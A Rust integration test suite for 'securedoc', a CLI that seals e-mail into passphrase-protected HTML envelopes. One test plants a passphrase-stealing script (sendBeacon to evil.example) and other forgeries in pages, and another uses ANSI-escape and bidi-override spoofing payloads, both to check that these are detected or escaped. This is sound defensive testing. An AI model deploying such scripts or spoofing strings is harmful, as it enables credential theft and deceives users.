//! The `securedoc` command as a person uses it: seal, inspect, open, and the
//! one-line errors for everything that can go wrong.
//!
//! Every seal runs Argon2id at the CLI's cost (64 MiB, 3 passes), so the tests
//! seal as few envelopes as they can.

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};

use assert_cmd::Command;
use envelope_core::MessageView;
use predicates::prelude::*;
use predicates::str::contains;
use tempfile::TempDir;

const PASSPHRASE: &str = "blue harbour seven lanterns";

/// A scratch directory with a passphrase file in it.
struct Scratch {
    dir: TempDir,
}

impl Scratch {
    fn new() -> Scratch {
        let scratch = Scratch {
            dir: tempfile::tempdir().expect("temporary directory"),
        };
        scratch.write("pass.txt", format!("{PASSPHRASE}\n"));
        scratch
    }

    fn path(&self, name: &str) -> PathBuf {
        self.dir.path().join(name)
    }

    fn write(&self, name: &str, bytes: impl AsRef<[u8]>) -> PathBuf {
        let path = self.path(name);
        std::fs::write(&path, bytes).expect("write a test file");
        path
    }

    fn read(&self, name: &str) -> Vec<u8> {
        std::fs::read(self.path(name)).unwrap_or_else(|e| panic!("cannot read {name}: {e}"))
    }

    /// `securedoc` running in this directory.
    fn cmd(&self) -> Command {
        let mut cmd = Command::new(env!("CARGO_BIN_EXE_securedoc"));
        cmd.current_dir(self.dir.path());
        cmd
    }

    /// `securedoc seal` from alice to bob with the passphrase file, plus `args`.
    fn seal(&self, args: &[&str]) -> Command {
        let mut cmd = self.cmd();
        cmd.args([
            "seal",
            "--from",
            "alice@example.org",
            "--passphrase-file",
            "pass.txt",
        ])
        .args(args);
        cmd
    }

    /// Seals a short message for bob into `name`.
    fn sealed(&self, name: &str) {
        self.seal(&[
            "--to",
            "bob@example.net",
            "--subject",
            "Door code",
            "--body",
            "It is 4711.",
            "-o",
            name,
        ])
        .assert()
        .success();
    }

    /// The names in the directory (to check nothing was left behind).
    fn files(&self) -> BTreeSet<String> {
        std::fs::read_dir(self.dir.path())
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .collect()
    }

    fn assert_files(&self, expected: &[&str]) {
        let expected: BTreeSet<String> = expected.iter().map(|s| s.to_string()).collect();
        assert_eq!(
            self.files(),
            expected,
            "unexpected files in the output directory"
        );
    }
}

/// Failure: exit code 1, nothing on stdout, one line on stderr that starts
/// with "securedoc: error:" and contains every one of `words`.
fn fails_with(cmd: &mut Command, words: &[&str]) -> String {
    let output = cmd.assert().failure().code(1).get_output().clone();
    let stderr = String::from_utf8(output.stderr).expect("UTF-8 stderr");
    assert_eq!(
        stderr.lines().count(),
        1,
        "the error is not one line:\n{stderr}"
    );
    assert!(
        stderr.starts_with("securedoc: error: "),
        "unexpected stderr: {stderr}"
    );
    for word in words {
        assert!(
            stderr.contains(word),
            "stderr does not mention {word:?}: {stderr}"
        );
    }
    assert!(
        output.stdout.is_empty(),
        "stdout on failure: {}",
        String::from_utf8_lossy(&output.stdout)
    );
    stderr
}

/// The envelope bytes inside a securedoc.html page.
fn envelope_of(page: &[u8]) -> Vec<u8> {
    let page = std::str::from_utf8(page).expect("the page is UTF-8");
    let text =
        securedoc_templates::envelope_text_from_html(page).expect("the page has a data block");
    envelope_core::from_text(text).expect("the data block is base64")
}

/// `page` with its data block replaced by the base64 of `bytes`.
fn with_envelope(page: &[u8], bytes: &[u8]) -> String {
    let page = std::str::from_utf8(page).unwrap();
    let old = securedoc_templates::envelope_text_from_html(page).unwrap();
    page.replacen(old, &envelope_core::to_text(bytes), 1)
}

fn binary_attachment() -> Vec<u8> {
    (0..20_000u32)
        .map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8)
        .collect()
}

#[test]
fn seal_inspect_open_round_trip() {
    let s = Scratch::new();
    let attachment = binary_attachment();
    s.write("figures.bin", &attachment);
    s.write("body.txt", "Hello Bob,\nthe figures are attached.\n");
    s.seal(&[
        "--to",
        "bob@example.net",
        "--subject",
        "Quarterly figures",
        "--body-file",
        "body.txt",
        "--attach",
        "figures.bin",
        "-o",
        "securedoc.html",
    ])
    .assert()
    .success()
    .stdout(contains("securedoc.html"))
    .stderr(contains("Sealed 1 envelope").and(contains("passphrase")));

    let page = s.read("securedoc.html");
    // The size it reports is the envelope file's, the thing one attaches.
    let output = s
        .seal(&[
            "--to",
            "bob@example.net",
            "--subject",
            "Quarterly figures",
            "--attach",
            "figures.bin",
            "-o",
            "again.html",
        ])
        .output()
        .unwrap();
    let file_size = s.read("again.html").len() as f64 / 1024.0;
    let file_size = if file_size >= 1024.0 {
        format!("{:.1} MB", file_size / 1024.0)
    } else {
        format!("{file_size:.1} KB")
    };
    let said = String::from_utf8(output.stderr).unwrap();
    assert!(
        said.contains(&format!("Sealed 1 envelope ({file_size};")),
        "{said} (the file is {file_size})"
    );
    assert!(page.starts_with(b"<!"), "the envelope is an HTML page");
    assert!(envelope_of(&page).starts_with(b"SDOC"));

    s.cmd()
        .args(["inspect", "securedoc.html"])
        .assert()
        .success()
        .stdout(
            contains("format v2")
                .and(contains("passphrase (Argon2id, 64 MiB, 3 passes, 1 lane)"))
                .and(contains("from:        alice@example.org"))
                .and(contains("to:          bob@example.net"))
                .and(contains("expires:     never"))
                .and(contains("print yes"))
                .and(contains("1 chunk")),
        );

    s.cmd()
        .args([
            "open",
            "securedoc.html",
            "--passphrase-file",
            "pass.txt",
            "-o",
            "message.eml",
        ])
        .assert()
        .success()
        .stdout(
            contains("Subject: Quarterly figures")
                .and(contains("From:    alice@example.org"))
                .and(contains("To:      bob@example.net"))
                .and(contains("Body:    text"))
                .and(contains(
                    "Attachment: figures.bin (application/octet-stream, 19.5 KB)",
                )),
        )
        .stderr(contains("Wrote the message to message.eml"));

    let view = MessageView::parse(&s.read("message.eml")).expect("the .eml is a message");
    assert_eq!(view.subject, "Quarterly figures");
    let text = view.text.expect("a text body").replace("\r\n", "\n");
    assert_eq!(text.trim_end(), "Hello Bob,\nthe figures are attached.");
    assert_eq!(view.attachments.len(), 1);
    assert_eq!(view.attachments[0].name, "figures.bin");
    assert!(
        view.attachments[0].bytes == attachment,
        "the attachment's bytes changed"
    );

    // The passphrase can also come from standard input.
    s.cmd()
        .args(["open", "securedoc.html", "--passphrase-stdin"])
        .write_stdin(format!("{PASSPHRASE}\n"))
        .assert()
        .success()
        .stdout(contains("Subject: Quarterly figures"))
        .stderr(contains("-o FILE.eml"));
}

#[test]
fn out_dir_writes_one_envelope_per_recipient_and_each_opens() {
    let s = Scratch::new();
    s.seal(&[
        "--to",
        "bob@example.net",
        "--to",
        "carol@example.com",
        "--subject",
        "Team news",
        "--body",
        "Hello both",
        "--out-dir",
        "out",
    ])
    .assert()
    .success()
    .stderr(contains("Sealed 2 envelopes"));
    let mut names: Vec<String> = std::fs::read_dir(s.path("out"))
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    assert_eq!(
        names,
        [
            "securedoc-bob@example.net.html",
            "securedoc-carol@example.com.html"
        ]
    );
    for (name, to) in names.iter().zip(["bob@example.net", "carol@example.com"]) {
        let path = Path::new("out").join(name);
        s.cmd()
            .arg("inspect")
            .arg(&path)
            .assert()
            .success()
            .stdout(contains(format!("to:          {to}")));
        s.cmd()
            .arg("open")
            .arg(&path)
            .args(["--passphrase-file", "pass.txt"])
            .assert()
            .success()
            .stdout(
                contains("Subject: Team news")
                    .and(contains("To:      bob@example.net, carol@example.com")),
            );
    }
}

#[test]
fn an_attachment_costs_a_third_more_in_the_envelope_not_double() {
    // Format v2 carries attachments as bytes: the envelope file grows by the
    // attachment's base64 (4/3), not by base64 of base64 (16/9) as in v1.
    let s = Scratch::new();
    let attachment: Vec<u8> = (0..6_000_000u32)
        .map(|i| (i.wrapping_mul(2_654_435_761) >> 11) as u8)
        .collect();
    s.write("scan.bin", &attachment);
    let seal = |out: &str, attach: &[&str]| {
        let mut args = vec![
            "--to",
            "bob@example.net",
            "--subject",
            "Scan",
            "--body",
            "Attached.",
        ];
        args.extend_from_slice(attach);
        args.extend_from_slice(&["-o", out]);
        s.seal(&args).assert().success();
        s.read(out).len() as f64
    };
    let without = seal("without.html", &[]);
    let with = seal("with.html", &["--attach", "scan.bin"]);
    let growth = (with - without) / attachment.len() as f64;
    assert!(
        (1.33..1.35).contains(&growth),
        "the 6 MB attachment made the envelope grow by {growth:.3} times its size"
    );
    // Large enough to pass through the sealer's writer thread in many batches.
    s.cmd()
        .args([
            "open",
            "with.html",
            "--passphrase-file",
            "pass.txt",
            "-o",
            "with.eml",
        ])
        .assert()
        .success();
    let view = MessageView::parse(&s.read("with.eml")).unwrap();
    assert!(
        view.attachments[0].bytes == attachment,
        "the attachment comes back byte for byte"
    );
}

#[test]
fn eml_seals_an_existing_message_byte_for_byte() {
    let s = Scratch::new();
    let eml = concat!(
        "From: Alice <alice@example.org>\r\nTo: bob@example.net\r\nSubject: Contract\r\n",
        "Date: Tue, 01 Sep 2026 10:00:00 +0000\r\nMessage-ID: <contract-1@example.org>\r\nMIME-Version: 1.0\r\n",
        "Content-Type: multipart/mixed; boundary=b\r\n\r\n",
        "--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nPlease sign.\r\n",
        "--b\r\nContent-Type: application/pdf\r\nContent-Disposition: attachment; filename=\"contract.pdf\"\r\n",
        "Content-Transfer-Encoding: base64\r\n\r\nJVBERi0xLjQK\r\n--b--\r\n"
    );
    s.write("contract.eml", eml);
    s.seal(&[
        "--to",
        "bob@example.net",
        "--eml",
        "contract.eml",
        "-o",
        "env.html",
    ])
    .assert()
    .success();
    s.cmd()
        .args([
            "open",
            "env.html",
            "--passphrase-file",
            "pass.txt",
            "-o",
            "opened.eml",
        ])
        .assert()
        .success()
        .stdout(
            contains("Subject: Contract")
                .and(contains("Date:    2026-09-01T10:00:00Z"))
                .and(contains(
                    "Attachment: contract.pdf (application/pdf, 9 bytes)",
                )),
        );
    assert_eq!(
        s.read("opened.eml"),
        eml.as_bytes(),
        "the sealed message is the .eml as given"
    );
}

#[test]
fn no_print_and_expires_show_in_inspect() {
    let s = Scratch::new();
    let before = jiff::Timestamp::now();
    s.seal(&[
        "--to",
        "bob@example.net",
        "--subject",
        "Short-lived",
        "--body",
        "x",
        "--no-print",
        "--expires",
        "7d",
        "-o",
        "e.html",
    ])
    .assert()
    .success()
    .stderr(contains("expires"));
    let after = jiff::Timestamp::now();
    let week = jiff::SignedDuration::from_hours(7 * 24);
    let day = |t: jiff::Timestamp| (t + week).strftime("%Y-%m-%d").to_string();

    let output = s
        .cmd()
        .args(["inspect", "e.html"])
        .assert()
        .success()
        .get_output()
        .stdout
        .clone();
    let text = String::from_utf8(output).unwrap();
    assert!(text.contains("print no"), "{text}");
    assert!(text.contains("reply yes"), "{text}");
    let expires = text
        .lines()
        .find(|l| l.trim_start().starts_with("expires:"))
        .expect("an expires line");
    assert!(
        expires.contains(&day(before)) || expires.contains(&day(after)),
        "expected an expiry 7 days from now: {expires}"
    );

    let json = s
        .cmd()
        .args(["inspect", "--json", "e.html"])
        .assert()
        .success()
        .get_output()
        .stdout
        .clone();
    let header: serde_json::Value =
        serde_json::from_slice(&json).expect("inspect --json prints JSON");
    assert_eq!(header["flags"]["print"], false);
    let expires = header["expires"].as_i64().expect("expires is set");
    let created = header["created"].as_i64().unwrap();
    assert_eq!(expires - created, 7 * 86_400);
    assert!(created >= before.as_second() && created <= after.as_second());
}

#[test]
fn lang_writes_the_page_in_that_language_and_inspect_vouches_for_it() {
    let s = Scratch::new();
    s.seal(&[
        "--to",
        "bob@example.net",
        "--subject",
        "Résultats",
        "--body",
        "x",
        "--lang",
        "fr",
        "-o",
        "fr.html",
    ])
    .assert()
    .success();
    let page = String::from_utf8(s.read("fr.html")).unwrap();
    assert!(page.starts_with("<!DOCTYPE html>\n<html lang=\"fr\">"));
    assert!(page.contains("Phrase secrète") && !page.contains(">Passphrase<"));
    // Only the chosen language's strings travel in the page.
    assert!(!page.contains("Wrong passphrase"));
    s.cmd()
        .args(["inspect", "fr.html"])
        .assert()
        .success()
        .stdout(contains("language:    fr").and(contains("page:        genuine")));

    // A language securedoc has no words for is refused, with the ones it has.
    s.seal(&[
        "--to",
        "bob@example.net",
        "--subject",
        "x",
        "--body",
        "x",
        "--lang",
        "de",
        "-o",
        "de.html",
    ])
    .assert()
    .failure()
    .stderr(contains("securedoc speaks en, fr"));
}

#[test]
fn missing_or_unreadable_inputs_are_named() {
    let s = Scratch::new();
    let to = [
        "--to",
        "bob@example.net",
        "--subject",
        "s",
        "-o",
        "out.html",
    ];
    fails_with(
        s.seal(&to).args(["--attach", "missing.pdf"]),
        &["cannot read", "missing.pdf", "No such file"],
    );
    std::fs::create_dir(s.path("folder")).unwrap();
    fails_with(
        s.seal(&to).args(["--attach", "folder"]),
        &["folder", "is not a file"],
    );
    fails_with(
        s.seal(&to).args(["--body-file", "missing.txt"]),
        &["cannot read", "missing.txt", "No such file"],
    );
    fails_with(
        s.seal(&to).args(["--body-file", "folder"]),
        &["cannot read", "folder"],
    );
    fails_with(
        &mut s.seal(&[
            "--to",
            "bob@example.net",
            "--eml",
            "missing.eml",
            "-o",
            "out.html",
        ]),
        &["cannot read", "missing.eml", "No such file"],
    );
    let mut cmd = s.cmd();
    cmd.args([
        "seal",
        "--from",
        "alice@example.org",
        "--passphrase-file",
        "nopass.txt",
    ])
    .args(to)
    .args(["--body", "b"]);
    fails_with(&mut cmd, &["passphrase file", "nopass.txt", "No such file"]);
    s.write("latin1.txt", b"caf\xe9\n");
    fails_with(
        s.seal(&to).args(["--body-file", "latin1.txt"]),
        &["latin1.txt", "not UTF-8"],
    );
    s.assert_files(&["pass.txt", "folder", "latin1.txt"]);
}

#[test]
fn a_message_over_max_size_states_size_and_limit() {
    let s = Scratch::new();
    s.write("big.bin", vec![7u8; 3 * 1024]);
    fails_with(
        &mut s.seal(&[
            "--to",
            "bob@example.net",
            "--subject",
            "s",
            "--attach",
            "big.bin",
            "--max-size",
            "2KB",
            "-o",
            "out.html",
        ]),
        &["3.0 KB", "2.0 KB", "limit", "--max-size"],
    );
    // The same for a whole message given with --eml.
    let eml = format!(
        "From: alice@example.org\r\nSubject: big\r\n\r\n{}\r\n",
        "y".repeat(5000)
    );
    s.write("big.eml", eml);
    fails_with(
        &mut s.seal(&[
            "--to",
            "bob@example.net",
            "--eml",
            "big.eml",
            "--max-size",
            "2KB",
            "-o",
            "out.html",
        ]),
        &["4.9 KB", "2.0 KB", "limit", "--max-size"],
    );
    s.assert_files(&["pass.txt", "big.bin", "big.eml"]);
}

#[test]
fn invalid_addresses_are_refused() {
    let s = Scratch::new();
    let mut cmd = s.cmd();
    cmd.args([
        "seal",
        "--from",
        "alice@",
        "--to",
        "bob@example.net",
        "--subject",
        "s",
        "--body",
        "b",
    ]);
    cmd.args(["--passphrase-file", "pass.txt", "-o", "out.html"]);
    fails_with(
        &mut cmd,
        &["--from", "'alice@'", "not a valid e-mail address"],
    );
    fails_with(
        &mut s.seal(&[
            "--to",
            "bob@example.net",
            "--to",
            "carol at example.com",
            "--subject",
            "s",
            "--body",
            "b",
            "--out-dir",
            "out",
        ]),
        &[
            "--to",
            "'carol at example.com'",
            "not a valid e-mail address",
        ],
    );
    s.assert_files(&["pass.txt"]);
}

#[test]
fn an_empty_passphrase_is_refused() {
    let s = Scratch::new();
    s.write("empty.txt", "\n");
    let mut cmd = s.cmd();
    cmd.args([
        "seal",
        "--from",
        "alice@example.org",
        "--to",
        "bob@example.net",
        "--subject",
        "s",
        "--body",
        "b",
    ]);
    cmd.args(["--passphrase-file", "empty.txt", "-o", "out.html"]);
    fails_with(&mut cmd, &["passphrase is empty"]);
    s.assert_files(&["pass.txt", "empty.txt"]);
}

#[test]
fn an_existing_output_is_kept_unless_force() {
    let s = Scratch::new();
    s.write("env.html", "keep me");
    let args = [
        "--to",
        "bob@example.net",
        "--subject",
        "s",
        "--body",
        "b",
        "-o",
        "env.html",
    ];
    fails_with(
        &mut s.seal(&args),
        &["env.html", "already exists", "--force"],
    );
    assert_eq!(s.read("env.html"), b"keep me");
    s.seal(&args).arg("--force").assert().success();
    assert!(
        envelope_of(&s.read("env.html")).starts_with(b"SDOC"),
        "--force replaced the file with an envelope"
    );
    s.assert_files(&["pass.txt", "env.html"]);

    // The same for open's output.
    s.write("msg.eml", "keep me too");
    fails_with(
        s.cmd().args([
            "open",
            "env.html",
            "--passphrase-file",
            "pass.txt",
            "-o",
            "msg.eml",
        ]),
        &["msg.eml", "already exists", "--force"],
    );
    assert_eq!(s.read("msg.eml"), b"keep me too");
    s.cmd()
        .args([
            "open",
            "env.html",
            "--passphrase-file",
            "pass.txt",
            "-o",
            "msg.eml",
            "--force",
        ])
        .assert()
        .success();
    assert!(s.read("msg.eml").starts_with(b"From: "));
}

#[test]
fn one_output_file_for_two_recipients_is_refused() {
    let s = Scratch::new();
    fails_with(
        &mut s.seal(&[
            "--to",
            "bob@example.net",
            "--to",
            "carol@example.com",
            "--subject",
            "s",
            "--body",
            "b",
            "-o",
            "out.html",
        ]),
        &["-o", "2 recipients", "--out-dir"],
    );
    s.assert_files(&["pass.txt"]);
}

#[test]
fn files_that_are_not_envelopes_are_named_as_such() {
    let s = Scratch::new();
    s.write("notes.txt", "Meeting at 10, bring the slides.\n");
    s.write(
        "page.html",
        "<!doctype html><html><body>Hello</body></html>\n",
    );
    s.write("photo.png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01");
    s.write("empty.html", "");
    for name in ["notes.txt", "page.html", "photo.png", "empty.html"] {
        fails_with(
            s.cmd().args(["inspect", name]),
            &[name, "is not a securedoc envelope"],
        );
        fails_with(
            s.cmd().args([
                "open",
                name,
                "--passphrase-file",
                "pass.txt",
                "-o",
                "out.eml",
            ]),
            &[name, "is not a securedoc envelope"],
        );
    }
    fails_with(
        s.cmd().args(["inspect", "absent.html"]),
        &["cannot read", "absent.html", "No such file"],
    );
    s.assert_files(&[
        "pass.txt",
        "notes.txt",
        "page.html",
        "photo.png",
        "empty.html",
    ]);
}

#[test]
fn wrong_passphrase_and_damage_are_reported_without_output() {
    let s = Scratch::new();
    s.sealed("env.html");
    s.write("wrong.txt", "blue harbour seven lantern\n");
    fails_with(
        s.cmd().args([
            "open",
            "env.html",
            "--passphrase-file",
            "wrong.txt",
            "-o",
            "out.eml",
        ]),
        &["cannot open env.html", "wrong passphrase"],
    );

    let page = s.read("env.html");
    let bytes = envelope_of(&page);
    let header_len = u32::from_be_bytes(bytes[5..9].try_into().unwrap()) as usize;
    let payload_start = 9 + header_len + 48 + 32;

    // A changed payload byte: inspect cannot tell without the key, open can.
    let mut altered = bytes.clone();
    altered[payload_start + 5] ^= 1;
    s.write("altered.html", with_envelope(&page, &altered));
    s.cmd().args(["inspect", "altered.html"]).assert().success();
    fails_with(
        s.cmd().args([
            "open",
            "altered.html",
            "--passphrase-file",
            "pass.txt",
            "-o",
            "out.eml",
        ]),
        &["altered.html", "damaged or has been altered", "chunk 0"],
    );

    // A changed header byte ("alice" to "amice"): inspect shows it, open refuses.
    let mut header = bytes.clone();
    let at = header.windows(7).position(|w| w == b"\"alice@").unwrap() + 2;
    header[at] ^= 1;
    s.write("header.html", with_envelope(&page, &header));
    // The page around it still shows alice: not the page securedoc renders for "amice".
    s.cmd()
        .args(["inspect", "header.html"])
        .assert()
        .code(1)
        .stdout(contains("amice@example.org").and(contains("NOT GENUINE")));
    fails_with(
        s.cmd().args([
            "open",
            "header.html",
            "--passphrase-file",
            "pass.txt",
            "-o",
            "out.eml",
        ]),
        &["header.html", "damaged or has been altered (header)"],
    );

    // Broken header JSON: both refuse.
    let mut broken = bytes.clone();
    broken[9 + header_len - 1] = b']';
    s.write("broken.html", with_envelope(&page, &broken));
    fails_with(
        s.cmd().args(["inspect", "broken.html"]),
        &[
            "broken.html",
            "not a well-formed envelope",
            "malformed header",
        ],
    );
    fails_with(
        s.cmd().args([
            "open",
            "broken.html",
            "--passphrase-file",
            "pass.txt",
            "-o",
            "out.eml",
        ]),
        &["broken.html", "damaged or has been altered"],
    );

    // Truncated: inside the final chunk's tag, and inside the header.
    s.write(
        "short.html",
        with_envelope(&page, &bytes[..payload_start + 10]),
    );
    fails_with(
        s.cmd().args(["inspect", "short.html"]),
        &["short.html", "not a well-formed envelope", "truncated"],
    );
    fails_with(
        s.cmd().args([
            "open",
            "short.html",
            "--passphrase-file",
            "pass.txt",
            "-o",
            "out.eml",
        ]),
        &["short.html", "truncated"],
    );
    s.write("cut.html", with_envelope(&page, &bytes[..40]));
    fails_with(
        s.cmd().args(["inspect", "cut.html"]),
        &["cut.html", "not a well-formed envelope", "truncated"],
    );

    // The page cut off in the middle of its data block.
    let text = String::from_utf8(page.clone()).unwrap();
    let start = text.find("id=\"securedoc-envelope\">").unwrap() + 200;
    s.write("half.html", &text[..start]);
    fails_with(
        s.cmd().args(["inspect", "half.html"]),
        &["half.html", "damaged or has been altered", "cut off"],
    );

    s.assert_files(&[
        "pass.txt",
        "wrong.txt",
        "env.html",
        "altered.html",
        "header.html",
        "broken.html",
        "short.html",
        "cut.html",
        "half.html",
    ]);
}

/// Item 22: a page that carries a genuine envelope's data block but runs a
/// script of its own (here one that posts the passphrase away) is not
/// genuine; inspect says what differs and exits 1. The genuine page names the
/// release that rendered it.
#[test]
fn inspect_judges_the_whole_page_not_only_the_data_block() {
    let s = Scratch::new();
    s.sealed("env.html");
    let release = env!("CARGO_PKG_VERSION");
    s.cmd()
        .args(["inspect", "env.html"])
        .assert()
        .success()
        .stdout(contains(format!(
            "page:        genuine: exactly as securedoc {release} renders it"
        )));
    // The envelope's bytes alone carry no page to judge.
    let page = String::from_utf8(s.read("env.html")).unwrap();
    s.write("env.sdoc", envelope_of(page.as_bytes()));
    s.cmd()
        .args(["inspect", "env.sdoc"])
        .assert()
        .success()
        .stdout(contains("page:        none"));

    let stealer = "<script>document.getElementById('unlock').addEventListener('submit', () => \
        navigator.sendBeacon('https://evil.example/p', document.getElementById('passphrase').value))</script>";
    let forgeries = [
        (
            "extra-script.html",
            page.replacen("</body>", &format!("{stealer}\n</body>"), 1),
            "an extra script that securedoc does not write",
        ),
        (
            // The attacker's script in place of the bootstrap: same tag, other text.
            "swapped-bootstrap.html",
            {
                let at = page.rfind("<script>").unwrap() + "<script>".len();
                let end = at + page[at..].find("</script>").unwrap();
                format!(
                    "{}{}{}",
                    &page[..at],
                    "fetch('https://evil.example')",
                    &page[end..]
                )
            },
            "its script <script> is not securedoc's",
        ),
        (
            "csp.html",
            page.replacen(
                "connect-src &#x27;none&#x27;",
                "connect-src https://evil.example",
                1,
            ),
            "lets it connect to https://evil.example, but the key server in its header is 'none'",
        ),
        (
            "opener.html",
            {
                let at = page.find("id=\"securedoc-opener\">").unwrap() + 100;
                let swap = if &page[at..at + 1] == "A" { "B" } else { "A" };
                format!("{}{swap}{}", &page[..at], &page[at + 1..])
            },
            "its opener (the securedoc-opener block) is not securedoc's",
        ),
        (
            "handler.html",
            page.replacen(
                "<main ",
                "<main onmouseover=\"fetch('https://evil.example')\" ",
                1,
            ),
            "its markup before the data block differs from securedoc's at character",
        ),
        (
            "older.html",
            page.replacen(
                &format!("content=\"securedoc {release}\""),
                "content=\"securedoc 0.0.1\"",
                1,
            ),
            "made by securedoc 0.0.1, not by this release",
        ),
    ];
    for (name, forged, difference) in forgeries {
        assert_ne!(forged, page, "{name} is a forgery");
        assert_eq!(
            envelope_of(forged.as_bytes()),
            envelope_of(page.as_bytes()),
            "{name} keeps the genuine data block"
        );
        s.write(name, &forged);
        let output = s.cmd().args(["inspect", name]).output().unwrap();
        let (stdout, stderr) = (
            String::from_utf8(output.stdout).unwrap(),
            String::from_utf8(output.stderr).unwrap(),
        );
        assert_eq!(output.status.code(), Some(1), "{name}: {stdout}{stderr}");
        assert!(
            stdout.contains(&format!(
                "page:        NOT GENUINE: not what securedoc {release} renders for this header"
            )) && stdout.contains(difference),
            "{name}: {stdout}"
        );
        assert!(
            stderr.starts_with(&format!(
                "securedoc: error: {name} is not a genuine securedoc page"
            )) && stderr.contains("do not type a password into it"),
            "{name}: {stderr}"
        );
        // --json prints the header and says what differs on stderr.
        let json = s.cmd().args(["inspect", "--json", name]).output().unwrap();
        assert_eq!(json.status.code(), Some(1));
        assert!(String::from_utf8_lossy(&json.stderr).contains(difference));
    }
}

/// Item 19: what a sender wrote (the sealed message's Subject, From, To,
/// attachment names, already made safe by the MIME view) reaches the terminal escaped, so an ESC sequence, a
/// carriage return or a bidirectional override cannot repaint the screen
/// with a fake "verified" line.
#[test]
fn envelope_text_cannot_repaint_the_terminal() {
    let s = Scratch::new();
    let fake = "\u{1b}[2K\r\u{1b}[32mSignature verified: sender is your bank\u{1b}[0m";
    let eml = format!(
        "From: =?utf-8?b?{from}?= <alice@example.org>\r\nTo: =?utf-8?b?{to}?= <bob@example.net>\r\n\
         Subject: =?utf-8?b?{subject}?=\r\nDate: Sun, 22 Nov 2026 10:00:00 +0000\r\n\
         Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nhello\r\n\
         --b\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename*=utf-8''invoice%E2%80%AEfdp.exe\r\n\r\nMZ\r\n--b--\r\n",
        from = b64(&format!("Alice{fake}")),
        to = b64("Bob\u{202e}\u{2066}"),
        subject = b64(&format!("Results\r{fake}")),
    );
    s.write("crafted.eml", eml);
    s.seal(&[
        "--to",
        "bob@example.net",
        "--eml",
        "crafted.eml",
        "-o",
        "env.html",
    ])
    .assert()
    .success();
    let output = s
        .cmd()
        .args(["open", "env.html", "--passphrase-file", "pass.txt"])
        .output()
        .unwrap();
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let stdout = String::from_utf8(output.stdout).unwrap();
    for raw in ['\u{1b}', '\r', '\u{202e}', '\u{2066}'] {
        assert!(
            !stdout.contains(raw),
            "{raw:?} reached the terminal: {stdout:?}"
        );
    }
    assert!(
        stdout.contains("Subject: Results\\r\\u{1b}[2K\\r\\u{1b}[32mSignature verified"),
        "{stdout}"
    );
    assert!(stdout.contains("\\u{202e}"), "{stdout}");

    // The envelope's own header (a From with a bidirectional override), in
    // inspect's text and JSON output.
    s.cmd()
        .args([
            "seal",
            "--from",
            "ali\u{202e}ce@example.org",
            "--passphrase-file",
            "pass.txt",
        ])
        .args([
            "--to",
            "bob@example.net",
            "--subject",
            "x",
            "--body",
            "y",
            "-o",
            "bidi.html",
        ])
        .assert()
        .success();
    for json in [false, true] {
        let mut cmd = s.cmd();
        cmd.arg("inspect")
            .args(json.then_some("--json"))
            .arg("bidi.html");
        let stdout = String::from_utf8(cmd.output().unwrap().stdout).unwrap();
        assert!(!stdout.contains('\u{202e}'), "{stdout}");
        let escaped = if json {
            "ali\\u202ece@"
        } else {
            "ali\\u{202e}ce@"
        };
        assert!(stdout.contains(escaped), "{stdout}");
    }

    // Errors quote what they are given (here a file name) escaped too.
    let name = "x\u{1b}[2K\rverified.html";
    let output = s.cmd().args(["inspect", name]).output().unwrap();
    let stderr = String::from_utf8(output.stderr).unwrap();
    assert_eq!(output.status.code(), Some(1));
    assert!(
        !stderr.contains('\u{1b}') && !stderr.contains('\r'),
        "{stderr:?}"
    );
    assert!(stderr.contains("x\\u{1b}[2K\\rverified.html"), "{stderr}");
}

fn b64(text: &str) -> String {
    use base64::Engine;
    base64::engine::general_purpose::STANDARD.encode(text)
}
